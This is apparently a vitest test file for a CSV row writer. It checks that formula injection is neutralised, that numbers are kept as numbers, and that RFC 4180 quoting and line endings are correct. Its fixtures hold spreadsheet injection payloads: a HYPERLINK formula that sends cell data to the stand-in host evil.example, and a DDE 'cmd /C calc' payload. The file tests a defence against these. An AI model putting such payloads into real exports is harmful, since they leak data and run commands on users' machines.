import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { FORMULA_START, csvHeaderLine, csvRowLines } from './csv-lines.ts';

/** Parsed back by an RFC 4180 reader, to prove the text round-trips. */
const parse = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
/** Text a spreadsheet would run, and what the CSV must hold instead. */
const FORMULAE: [string, string][] = [
  [HYPERLINK, `'${HYPERLINK}`],
  ['+1+cmd|" /C calc"!A0', '\'+1+cmd|" /C calc"!A0'],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  ['=1+1\nsecond line', "'=1+1\nsecond line"],
  ['a = b', 'a = b'],
];

describe('the CSV row writer', () => {
  it('neutralises text that a spreadsheet would run as a formula (OWASP), in the header as in the cells', () => {
    const texts = FORMULAE.map(([text]) => text);
    const expected = FORMULAE.map(([, written]) => written);
    const header = csvHeaderLine(texts);
    const cells = csvRowLines(
      texts,
      texts.map((text) => [text]),
    );
    expect(parse(header)).toEqual([expected]);
    expect(parse(cells).map(([cell]) => cell)).toEqual(expected);
    // The neutralised cell is quoted, its quotes doubled.
    expect(csvHeaderLine([HYPERLINK, 'b'])).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")",b\r\n`);
  });

  it('keeps numbers as numbers: a negative number value, and text that is a plain number, are not prefixed', () => {
    const fields = ['lon', 'small', 'text', 'plus', 'zero', 'flag', 'none'];
    expect(csvRowLines(fields, [[-122.4194, -1e-7, '-122.4', '+3', 0, false, null]])).toBe('-122.4194,-1e-7,-122.4,+3,0,false,\r\n');
    expect(csvHeaderLine(['-1', '2.5e3'])).toBe('-1,2.5e3\r\n');
    expect(FORMULA_START.test('-122.4')).toBe(false);
    expect(FORMULA_START.test('-122.4+1')).toBe(true);
    expect(FORMULA_START.test('-')).toBe(true);
  });

  it('writes RFC 4180 lines ending CRLF, objects and lists as compact JSON, nothing for no rows', () => {
    expect(
      csvRowLines(
        ['a', 'b'],
        [
          ['with, comma', 'say "hi"'],
          [{ x: 1 }, ['p', 'q']],
          [undefined, 'line\nbreak'],
        ],
      ),
    ).toBe('"with, comma","say ""hi"""\r\n"{""x"":1}","[""p"",""q""]"\r\n,"line\nbreak"\r\n');
    expect(csvRowLines(['a'], [])).toBe('');
  });

  it('writes an empty cell of a one-column CSV as "", so its line is not skipped as empty', () => {
    expect(csvRowLines(['a'], [['x'], [null], ['']])).toBe('x\r\n""\r\n""\r\n');
    expect(csvRowLines(['a', 'b'], [[null, '']])).toBe(',\r\n');
  });
});
